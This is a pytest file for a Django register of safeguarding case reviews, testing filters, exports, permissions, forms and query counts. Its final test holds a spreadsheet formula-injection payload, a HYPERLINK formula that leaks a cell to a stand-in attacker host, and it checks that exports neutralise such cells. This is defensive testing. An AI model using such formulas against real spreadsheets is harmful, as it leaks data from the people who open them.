"""The reviews register and a review's page: filters, sorting, exports, the words of the board's
kind, the forms (what was typed is kept, stale edits refused), who may do what, and query counts."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from learning.models import Review
from lscb import roles
from tests.factories import (
    AgencyFactory,
    BoardFactory,
    GroupFactory,
    MembershipFactory,
    PersonFactory,
    RecommendationFactory,
    ReviewFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
LONG = (
    "Première ligne: l\u2019évaluation des délais \u2013 “Child H” and the école\u2019s référence.\n"
    "Second line: what the agencies knew, and when; ñ, ø, ß, ł.\n" * 40
).strip()


def url(name: str, board, *args) -> str:
    return reverse(f"learning:{name}", args=[board.slug, *args])


def review_data(**changes) -> dict:
    data = {
        "ref": "RR-2025-07",
        "kind": "rapid_review",
        "title": "Child H",
        "group": "",
        "notified_on": "2025-06-02",
        "decision": "review",
        "decided_on": "2025-06-20",
        "decision_reason": "Multi-agency learning about neglect.",
        "started_on": "",
        "concluded_on": "",
        "published_on": "",
        "findings": "",
    }
    return {**data, **changes}


# --- the register ------------------------------------------------------------------------------


@pytest.fixture
def register(board):
    qeg = GroupFactory(name="Quality and Effectiveness Group", short_name="QEG")
    cspr = GroupFactory(name="Case Review Group", short_name="CRG")
    rapid = ReviewFactory(
        ref="RR-2025-01",
        title="Child H",
        group=qeg,
        notified_on=date(2025, 6, 2),  # a Monday
        decision="review",
        decided_on=date(2025, 6, 18),  # 12 working days
    )
    late = ReviewFactory(
        ref="RR-2025-02",
        title="Child J",
        group=qeg,
        notified_on=date(2025, 7, 1),
        decision="no_review",
        decided_on=date(2025, 7, 25),  # 18 working days
        decision_reason="Single-agency learning only.",
    )
    ongoing = ReviewFactory(
        ref="CSPR-2024-01",
        kind="cspr",
        title="Family K",
        group=cspr,
        notified_on=date(2024, 5, 1),
        decision="review",
        decided_on=date(2024, 5, 20),
        started_on=date(2024, 6, 1),
        findings="Escalation between agencies was not used.",
    )
    published = ReviewFactory(
        ref="CSPR-2022-01",
        kind="cspr",
        title="Child L",
        notified_on=date(2022, 5, 1),
        started_on=date(2022, 6, 1),
        concluded_on=date(2023, 1, 10),
        published_on=date(2023, 2, 1),
    )
    RecommendationFactory(review=rapid, ref="1", due_date=TODAY - timedelta(days=3))  # overdue
    RecommendationFactory(review=rapid, ref="2", due_date=TODAY + timedelta(days=30))
    RecommendationFactory(review=rapid, ref="3", status="implemented", decided_on=TODAY, due_date=TODAY - timedelta(9))
    RecommendationFactory(review=published, ref="1", status="in_progress")
    return {"rapid": rapid, "late": late, "ongoing": ongoing, "published": published, "qeg": qeg}


def rows(response) -> list[str]:
    return [review.ref for review in response.context["table"].page.object_list.data]


def test_the_register_lists_the_boards_reviews_with_their_counts_and_decision_days(
    client_for, board_member, board, register
):
    other = BoardFactory(name="Northmoor Safeguarding Adults Board", slug="nsab", kind="adults")
    ReviewFactory(board=other, ref="SAR-2025-01", kind="sar", title="Adult D")
    response = client_for(board_member).get(url("review-list", board))
    page = response.content.decode()
    assert response.status_code == 200
    assert rows(response) == ["RR-2025-02", "RR-2025-01", "CSPR-2024-01", "CSPR-2022-01"]
    assert "SAR-2025-01" not in page and "Adult D" not in page
    assert "12 working days" in page
    assert "18 working days: over the 15 expected" in page
    assert "1 overdue" in page
    rapid = next(r for r in response.context["table"].page.object_list.data if r.ref == "RR-2025-01")
    assert (rapid.recommendation_count, rapid.open_count, rapid.overdue_count) == (3, 2, 1)
    # The children's words; a member may not add a review.
    assert "<h1" in page and "Rapid reviews and child safeguarding practice reviews" in page
    assert "Add a review" not in page


def test_an_adults_board_register_speaks_of_safeguarding_adults_reviews(client_for, manager):
    adults = BoardFactory(name="Northmoor Safeguarding Adults Board", slug="nsab", kind="adults")
    ReviewFactory(board=adults, ref="SAR-2025-01", kind="sar", title="Adult D")
    page = client_for(manager).get(url("review-list", adults)).content.decode()
    assert "Safeguarding Adults Reviews</h1>" in page and "Adult D" in page
    assert "rapid reviews" not in page.lower()
    assert "Add a review" in page
    # The kinds it offers are an adults board's.
    form = client_for(manager).get(url("review-create", adults)).content.decode()
    assert 'value="sar"' in form and 'value="rapid_review"' not in form


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"kind": "cspr"}, ["CSPR-2024-01", "CSPR-2022-01"]),
        ({"decision": "no_review"}, ["RR-2025-02"]),
        ({"status": "decided"}, ["RR-2025-02", "RR-2025-01"]),
        ({"status": "ongoing"}, ["CSPR-2024-01"]),
        ({"status": "published"}, ["CSPR-2022-01"]),
        ({"status": "notified"}, []),
        ({"year": "2024-25"}, ["CSPR-2024-01"]),
        ({"year": "2022-23"}, ["CSPR-2022-01"]),
        ({"q": "escalation"}, ["CSPR-2024-01"]),
        ({"overdue": "on"}, ["RR-2025-01"]),
        ({"q": "child j"}, ["RR-2025-02"]),
        ({"sort": "ref"}, ["CSPR-2022-01", "CSPR-2024-01", "RR-2025-01", "RR-2025-02"]),
        ({"sort": "-overdue"}, ["RR-2025-01", "RR-2025-02", "CSPR-2024-01", "CSPR-2022-01"]),
        ({"year": "9999-00", "status": "x", "q": "\x00"}, []),
    ],
)
def test_the_register_filters_and_sorts(client_for, board_member, board, register, query, expected):
    response = client_for(board_member).get(url("review-list", board), query)
    assert response.status_code == 200
    got = rows(response)
    assert got == expected if "sort" in query else sorted(got) == sorted(expected)


def test_the_register_filters_by_overseeing_group_of_the_board_only(client_for, board_member, board, register):
    other_board_group = GroupFactory(board=BoardFactory(slug="nsab", kind="adults"), name="SAR Panel")
    client = client_for(board_member)
    response = client.get(url("review-list", board), {"group": register["qeg"].pk})
    assert sorted(rows(response)) == ["RR-2025-01", "RR-2025-02"]
    page = client.get(url("review-list", board)).content.decode()
    assert "SAR Panel" not in page
    assert rows(client.get(url("review-list", board), {"group": other_board_group.pk})) == []


def test_the_register_exports_csv_and_excel(client_for, board_member, board, register):
    client = client_for(board_member)
    response = client.get(url("review-list", board), {"_export": "csv", "kind": "rapid_review"})
    assert response.status_code == 200
    assert f"{board.slug}-reviews.csv" in response["Content-Disposition"]
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["Ref"] for row in table) == ["RR-2025-01", "RR-2025-02"]
    rapid = next(row for row in table if row["Ref"] == "RR-2025-01")
    assert (rapid["Decision time"], rapid["Recommendations"], rapid["Open"], rapid["Overdue"]) == ("12", "3", "2", "1")
    assert rapid["Overseeing group"] == "Quality and Effectiveness Group"
    assert (rapid["Kind"], rapid["Where it stands"], rapid["Notified"]) == ("Rapid review", "Decided", "2025-06-02")
    excel = client.get(url("review-list", board), {"_export": "xlsx"})
    assert excel.status_code == 200 and excel.content[:2] == b"PK"


def test_the_register_costs_the_same_few_queries_for_many_reviews(
    client_for, board_member, board, register, django_assert_max_num_queries
):
    client = client_for(board_member)
    client.get(url("review-list", board))
    for n in range(20):
        review = ReviewFactory(ref=f"RR-2024-{n:02d}", notified_on=date(2024, 5, 1), group=register["qeg"])
        RecommendationFactory(review=review, ref="1", lead_agency=AgencyFactory())
    # A fixed few (the request's own, the records' version the kept page is keyed by, the filter's
    # choices, the rows and their count), however many reviews.
    with django_assert_max_num_queries(10):
        response = client.get(url("review-list", board))
    assert len(rows(response)) == 24


# --- a review's page ---------------------------------------------------------------------------


def test_a_reviews_page_shows_its_timeline_findings_and_recommendations_with_their_updates(
    client_for, board_member, board, register
):
    from learning import services

    review = register["ongoing"]
    police = AgencyFactory(name="Northmoor Constabulary")
    first = RecommendationFactory(
        review=review,
        ref="1",
        text="Use the escalation policy.",
        lead_agency=police,
        due_date=TODAY - timedelta(days=1),
        evidence="Escalations rose from 3 to 17.",
    )
    RecommendationFactory(
        review=review, ref="2", status="not_to_implement", reason="Superseded by the national review.", decided_on=TODAY
    )
    services.recommendation_record_update(recommendation=first, note="Briefings held in May.", by=None, day=TODAY)
    response = client_for(board_member).get(url("review-detail", board, review.ref))
    page = response.content.decode()
    assert response.status_code == 200
    for text in ("Notified", "01/05/2024", "Decided: review", "20/05/2024", "Started", "01/06/2024", "not yet"):
        assert text in page
    assert "Escalation between agencies was not used." in page
    assert "Use the escalation policy." in page and "Northmoor Constabulary" in page
    assert "Overdue" in page and "Escalations rose from 3 to 17." in page
    assert "Superseded by the national review." in page and "Decided not to implement" in page
    assert "Briefings held in May." in page
    assert f'id="recommendation-{first.pk}"' in page
    # A member reads: no edit links.
    assert "Edit the review" not in page and "Record an update" not in page


def test_a_rapid_reviews_page_says_its_decision_time(client_for, board_member, board, register):
    page = client_for(board_member).get(url("review-detail", board, "RR-2025-02")).content.decode()
    assert "18 working days: over the 15 expected" in page
    assert "Single-agency learning only." in page


def test_a_reviews_page_costs_the_same_few_queries_for_many_recommendations(
    client_for, manager, board, register, django_assert_max_num_queries
):
    from learning import services

    review = register["rapid"]
    for n in range(4, 16):
        recommendation = RecommendationFactory(
            review=review, ref=str(n), lead_agency=AgencyFactory(), lead_group=register["qeg"]
        )
        for day in (1, 2):
            services.recommendation_record_update(
                recommendation=recommendation, note=f"Step {day}", by=manager, day=TODAY - timedelta(days=day)
            )
    client = client_for(manager)
    client.get(url("review-detail", board, review.ref))
    # A fixed few (the request's own, the review, its recommendations, their updates), however many.
    with django_assert_max_num_queries(8):
        response = client.get(url("review-detail", board, review.ref))
    assert response.content.decode().count("Step 2") == 12


def test_another_boards_review_is_not_found_under_this_boards_address(client_for, manager, board):
    adults = BoardFactory(name="Northmoor Safeguarding Adults Board", slug="nsab", kind="adults")
    theirs = ReviewFactory(board=adults, ref="SAR-2025-01", kind="sar", title="Adult D")
    recommendation = RecommendationFactory(review=theirs, ref="1")
    client = client_for(manager)
    assert client.get(url("review-detail", board, theirs.ref)).status_code == 404
    assert client.get(url("review-edit", board, theirs.ref)).status_code == 404
    assert client.get(url("recommendation-create", board, theirs.ref)).status_code == 404
    assert client.get(url("recommendation-edit", board, recommendation.pk)).status_code == 404
    assert client.get(url("recommendation-update", board, recommendation.pk)).status_code == 404
    assert client.get(url("review-detail", adults, theirs.ref)).status_code == 200


def test_a_role_held_for_the_other_board_only_is_refused(client_for, board):
    adults = BoardFactory(name="Northmoor Safeguarding Adults Board", slug="nsab", kind="adults")
    review = ReviewFactory(ref="RR-2025-01")
    user = UserFactory(username="sab-manager", board_roles=[(roles.BUSINESS_MANAGER, adults)])
    client = client_for(user)
    assert client.get(url("review-list", board)).status_code == 403
    assert client.get(url("review-detail", board, review.ref)).status_code == 403
    assert client.post(url("review-edit", board, review.ref), review_data(ref="RR-2025-01")).status_code == 403
    assert client.get(url("review-list", adults)).status_code == 200


# --- who may edit ------------------------------------------------------------------------------


@pytest.fixture
def chairs(board):
    """The chair of the Case Review Group, and the chair of another group."""
    crg = GroupFactory(name="Case Review Group")
    other = GroupFactory(name="Training Group")
    own = UserFactory(username="crg-chair", roles=[roles.SUBGROUP_CHAIR])
    MembershipFactory(group=crg, person=PersonFactory(name="Pat Reviewer", user=own), role="chair")
    another = UserFactory(username="training-chair", roles=[roles.SUBGROUP_CHAIR])
    MembershipFactory(group=other, person=PersonFactory(name="Lee Trainer", user=another), role="chair")
    return {"group": crg, "own": own, "another": another}


def test_the_chair_of_the_overseeing_group_edits_their_review_and_another_chair_may_not(client_for, board, chairs):
    review = ReviewFactory(ref="CSPR-2025-01", kind="cspr", title="Child M", group=chairs["group"])
    edit = url("review-edit", board, review.ref)
    client = client_for(chairs["own"])
    page = client.get(url("review-detail", board, review.ref)).content.decode()
    assert "Edit the review" in page and "Add a recommendation" in page
    data = review_data(ref="CSPR-2025-01", kind="cspr", title="Child M", group=chairs["group"].pk, version=1)
    response = client.post(edit, {**data, "findings": "Found."})
    assert response.status_code == 302
    assert Review.objects.get(pk=review.pk).findings == "Found."
    # Neither may add a review; the other group's chair may not edit it.
    assert client.get(url("review-create", board)).status_code == 403
    other = client_for(chairs["another"])
    assert other.get(edit).status_code == 403
    assert other.post(edit, {**data, "findings": "Changed.", "version": 2}).status_code == 403
    assert "Edit the review" not in other.get(url("review-detail", board, review.ref)).content.decode()
    assert Review.objects.get(pk=review.pk).findings == "Found."


def test_a_member_reads_but_may_not_add_or_edit(client_for, board_member, board):
    review = ReviewFactory(ref="RR-2025-01")
    client = client_for(board_member)
    assert client.get(url("review-detail", board, review.ref)).status_code == 200
    assert client.get(url("review-create", board)).status_code == 403
    assert client.post(url("review-create", board), review_data()).status_code == 403
    assert client.get(url("review-edit", board, review.ref)).status_code == 403
    assert Review.objects.count() == 1


# --- the forms ---------------------------------------------------------------------------------


def test_the_manager_adds_a_review_with_long_accented_text(client_for, manager, board):
    group = GroupFactory(name="Case Review Group")
    client = client_for(manager)
    form = client.get(url("review-create", board)).content.decode()
    assert "Anonymised" in form and "Never a real name" in form
    data = review_data(group=group.pk, decision_reason=LONG, findings=LONG, started_on="2025-07-01")
    response = client.post(url("review-create", board), data)
    assert response.status_code == 302
    review = Review.objects.get(board=board, ref="RR-2025-07")
    assert response["Location"] == url("review-detail", board, "RR-2025-07")
    assert (review.findings, review.decision_reason, review.group) == (LONG, LONG, group)
    assert review.history.get().history_user == manager
    page = client.get(response["Location"]).content.decode()
    assert "Saved the review RR-2025-07." in page and "14 working days" in page
    assert "l\u2019évaluation des délais" in page


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"ref": ""}, "This field is required."),
        ({"title": ""}, "This field is required."),
        ({"title": "Child H\nsecond line"}, "Write this on one line."),
        ({"kind": "bogus"}, "Select a valid choice."),
        ({"ref": "RR/2025"}, "A reference cannot contain"),
        ({"ref": "New"}, "cannot be a reference"),
        ({"decided_on": "2025-05-01"}, "The decision cannot come before the notification."),
        ({"started_on": "2025-07-01", "concluded_on": "2025-06-01"}, "A review cannot conclude before it starts."),
        ({"notified_on": "2025-13-45"}, "Enter the date day first, as 27/11/2026."),
        ({"notified_on": "9999-01-01", "decided_on": ""}, "outside the years records are kept for"),
        ({"findings": "Control \x07 character"}, "control character"),
    ],
)
def test_a_bad_review_is_refused_with_a_message_and_the_typing_kept(client_for, manager, board, changes, message):
    data = review_data(findings=LONG, **{k: v for k, v in changes.items() if k != "findings"})
    if "findings" in changes:
        data["findings"] = changes["findings"]
    response = client_for(manager).post(url("review-create", board), data)
    page = response.content.decode()
    assert response.status_code == 200
    assert message in page
    assert not Review.objects.exists()
    if "findings" not in changes:
        assert "l\u2019évaluation des délais" in page  # what was typed is still in the form


def test_a_group_of_another_board_is_not_offered_nor_accepted(client_for, manager, board):
    theirs = GroupFactory(board=BoardFactory(slug="nsab", kind="adults"), name="SAR Panel")
    client = client_for(manager)
    assert "SAR Panel" not in client.get(url("review-create", board)).content.decode()
    response = client.post(url("review-create", board), review_data(group=theirs.pk))
    assert "Select a valid choice" in response.content.decode()
    assert not Review.objects.exists()


def test_a_reference_is_unique_in_the_board_only(client_for, manager, board):
    ReviewFactory(ref="RR-2025-07")
    ReviewFactory(board=BoardFactory(slug="nsab", kind="adults"), ref="RR-2025-08", kind="sar")
    client = client_for(manager)
    response = client.post(url("review-create", board), review_data())
    assert "Another review of this board has this reference." in response.content.decode()
    assert client.post(url("review-create", board), review_data(ref="RR-2025-08")).status_code == 302


def test_a_stale_edit_is_refused_and_the_typing_kept(client_for, manager, board):
    from learning import services

    review = ReviewFactory(ref="RR-2025-07", notified_on=date(2025, 6, 2))
    client = client_for(manager)
    edit = url("review-edit", board, review.ref)
    assert 'name="version" value="1"' in client.get(edit).content.decode()
    # Someone else saves first.
    review.findings = "Theirs."
    services.review_save(review=review, by=manager, version=1)
    response = client.post(edit, review_data(findings="Mine, typed with care.", version=1))
    page = response.content.decode()
    assert response.status_code == 200
    assert "Someone else saved this review while you were editing it." in page
    assert "Mine, typed with care." in page and "Theirs." in page  # theirs shown, mine kept
    assert Review.objects.get(pk=review.pk).findings == "Theirs."
    # Saving again, after checking, goes through.
    assert 'name="version" value="2"' in page
    assert client.post(edit, review_data(findings="Mine, typed with care.", version=2)).status_code == 302
    assert Review.objects.get(pk=review.pk).findings == "Mine, typed with care."


def test_a_damaged_version_is_refused_as_stale(client_for, manager, board):
    review = ReviewFactory(ref="RR-2025-07", notified_on=date(2025, 6, 2))
    response = client_for(manager).post(url("review-edit", board, review.ref), review_data(version="x"))
    assert "Someone else saved this review" in response.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_register_export_quotes_text_a_spreadsheet_would_run(client_for, manager, board, fmt):
    from openpyxl import load_workbook

    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    ReviewFactory(ref="+RR-1", title=hyperlink, group=GroupFactory(name="@SUM(A1:A9)"))
    response = client_for(manager).get(url("review-list", board), {"_export": fmt})
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    else:
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert f"'{hyperlink}" in texts and "'+RR-1" in texts and "'@SUM(A1:A9)" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "@"))]
